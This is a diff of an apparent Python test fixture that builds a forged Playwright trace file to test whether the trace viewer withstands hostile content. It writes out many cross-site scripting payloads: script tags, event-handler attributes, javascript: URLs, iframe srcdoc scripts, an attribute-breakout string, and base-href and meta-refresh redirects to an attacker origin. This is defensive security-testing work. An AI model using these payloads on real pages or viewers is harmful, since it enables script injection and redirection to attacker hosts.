@@ -1,4 +1,4 @@
-"""Traces that Playwright's viewer opens: a run's own, and one that somebody made up to harm who looks at it."""
+"""A trace that somebody made up to harm who looks at it, in every way we could think of."""
 
 from __future__ import annotations
 
@@ -8,6 +8,7 @@ from pathlib import Path
 from typing import Any
 
 CALL = "call@1"
+LEAVING = "call@2"  # its page sends its own frame away
 FRAME = "frame@1"
 SITE = "http://shop.test"
 FORGED = {
@@ -33,7 +34,8 @@ INJECTED = """x><script>{harm}</script>
 <object data="{site}/evil.svg"></object><embed src="{site}/evil.html"><link rel="manifest" href="{site}/evil.js">
 <link rel="modulepreload" href="{site}/evil.js"><img src="{outside}/picture"><img src="{site}/moved">
 <form action="{outside}/form"><button>Send</button></form><a href="{outside}/link" target="_top">Leave</a>
-<base href="{outside}/"><meta http-equiv="refresh" content="1;url={outside}/refresh"><p y"""
+<base href="{outside}/">{more}<p y"""
+REFRESH = '<meta http-equiv="refresh" content="0;url={outside}/refresh">'
 
 
 def harm(name: str, outside: str) -> str:
@@ -46,68 +48,61 @@ def harm(name: str, outside: str) -> str:
 
 def hostile_trace(target: Path, *, outside: str, trace: str) -> None:
     """`outside`: the origin of the attacker. `trace`: where the viewer gets this trace."""
-    injected = INJECTED.format(harm=harm("injected", outside), site=SITE, outside=outside, trace=trace)
-    html: list[Any] = [
-        "HTML",
-        {},
-        [
-            "HEAD",
-            {},
-            ["LINK", {"rel": "stylesheet", "href": f"{SITE}/evil.css"}],
-            ["SCRIPT", {}, harm("script", outside)],
-        ],
-        [
-            "BODY",
-            {"onload": harm("onload", outside)},
-            ["H1", {"onclick": harm("click", outside)}, "Forged page"],
-            ["IMG", {"src": "x:", "onerror": harm("onerror", outside)}],
-            [
-                "IFRAME",
-                {
-                    "src": f"javascript:{harm('frame', outside)}",
-                    "srcdoc": f"<script>{harm('srcdoc', outside)}</script>",
-                },
-            ],
-            ["A", {"href": f"javascript:{harm('href', outside)}"}, "a link"],
-            ["svg", {"onload": harm("svg", outside)}, ["script", {}, harm("svg-script", outside)]],
-            ["P", {injected: "1"}, "the end"],
-        ],
-    ]
-    page = {"pageId": "page@1", "frameId": FRAME, "frameUrl": f"{SITE}/", "doctype": "html", "isMainFrame": True}
-    snapshot = {
-        "callId": CALL,
-        "html": html,
-        "viewport": {"width": 800, "height": 600},
-        "resourceOverrides": [],
-        **page,
-    }
-    lines: list[dict[str, Any]] = [
+
+    def injected(more: str) -> str:
+        return INJECTED.format(harm=harm("injected", outside), site=SITE, outside=outside, trace=trace, more=more)
+
+    lines = [
         {"version": 10, "type": "context-options", "origin": "library", "browserName": "chromium", "options": {}}
         | {"platform": "linux", "wallTime": 1, "monotonicTime": 1, "sdkLanguage": "python"},
-        {"type": "before", "callId": CALL, "startTime": 10, "class": "Frame", "method": "click", "params": {}},
-        {"type": "frame-snapshot", "snapshot": {**snapshot, "phase": "before", "timestamp": 11}},
-        {"type": "frame-snapshot", "snapshot": {**snapshot, "phase": "after", "timestamp": 19}},
-        {
-            "type": "console",
-            "time": 12,
-            "pageId": "page@1",
-            "messageType": "error",
-            "text": f"<img src=x: onerror={harm('console', outside)}>",
-            "location": {"url": f"javascript:{harm('place', outside)}", "lineNumber": 1, "columnNumber": 1},
-        },
-        {
-            "type": "after",
-            "callId": CALL,
-            "endTime": 20,
-            "error": {"message": "<script>" + harm("error", outside) + "</script>"},
-        }
-        | {"attachments": [{"name": "evil.html", "contentType": "text/html", "file": "resources/evil.html"}]},
+        *_call(CALL, "click", 10, outside, injected("")),
+        *_call(LEAVING, "press", 30, outside, injected(REFRESH.format(outside=outside))),
     ]
     with zipfile.ZipFile(target, "w") as file:
         file.writestr("trace.trace", "\n".join(map(json.dumps, lines)))
-        file.writestr("trace.network", "\n".join(json.dumps(line) for line in _network(outside)))
+        file.writestr("trace.network", "\n".join(map(json.dumps, _network(outside))))
         for name, (_, content) in FORGED.items():
             file.writestr(f"resources/{name}", content.format(harm=harm(name, outside)))
+
+
+def _call(call: str, method: str, at: int, outside: str, injected: str) -> list[dict[str, Any]]:
+    said = {"messageType": "error", "text": f"<img src=x: onerror={harm('console', outside)}>"}
+    place = {"url": f"javascript:{harm('place', outside)}", "lineNumber": 1, "columnNumber": 1}
+    attached = {"name": "evil.html", "contentType": "text/html", "file": "resources/evil.html"}
+    error = {"message": f"<script>{harm('error', outside)}</script>"}
+    snapshot = {
+        "callId": call,
+        "html": _html(outside, injected),
+        "viewport": {"width": 800, "height": 600},
+        "resourceOverrides": [],
+        "pageId": "page@1",
+        "frameId": FRAME,
+        "frameUrl": f"{SITE}/",
+        "doctype": "html",
+        "isMainFrame": True,
+    }
+    return [
+        {"type": "before", "callId": call, "startTime": at, "class": "Frame", "method": method, "params": {}},
+        {"type": "frame-snapshot", "snapshot": {**snapshot, "phase": "before", "timestamp": at + 1}},
+        {"type": "console", "time": at + 2, "pageId": "page@1", "location": place, **said},
+        {"type": "frame-snapshot", "snapshot": {**snapshot, "phase": "after", "timestamp": at + 9}},
+        {"type": "after", "callId": call, "endTime": at + 10, "error": error, "attachments": [attached]},
+    ]
+
+
+def _html(outside: str, injected: str) -> list[Any]:
+    frame = {"src": f"javascript:{harm('frame', outside)}", "srcdoc": f"<script>{harm('srcdoc', outside)}</script>"}
+    style = ["LINK", {"rel": "stylesheet", "href": f"{SITE}/evil.css"}]
+    body = [
+        ["H1", {"onclick": harm("click", outside)}, "Forged page"],
+        ["IMG", {"src": "x:", "onerror": harm("onerror", outside)}],
+        ["IFRAME", frame],
+        ["A", {"href": f"javascript:{harm('href', outside)}"}, "a link"],
+        ["svg", {"onload": harm("svg", outside)}, ["script", {}, harm("svg-script", outside)]],
+        ["P", {injected: "1"}, "the end"],
+    ]
+    head = ["HEAD", {}, style, ["SCRIPT", {}, harm("script", outside)]]
+    return ["HTML", {}, head, ["BODY", {"onload": harm("onload", outside)}, *body]]
 
 
 def _network(outside: str) -> list[dict[str, Any]]:
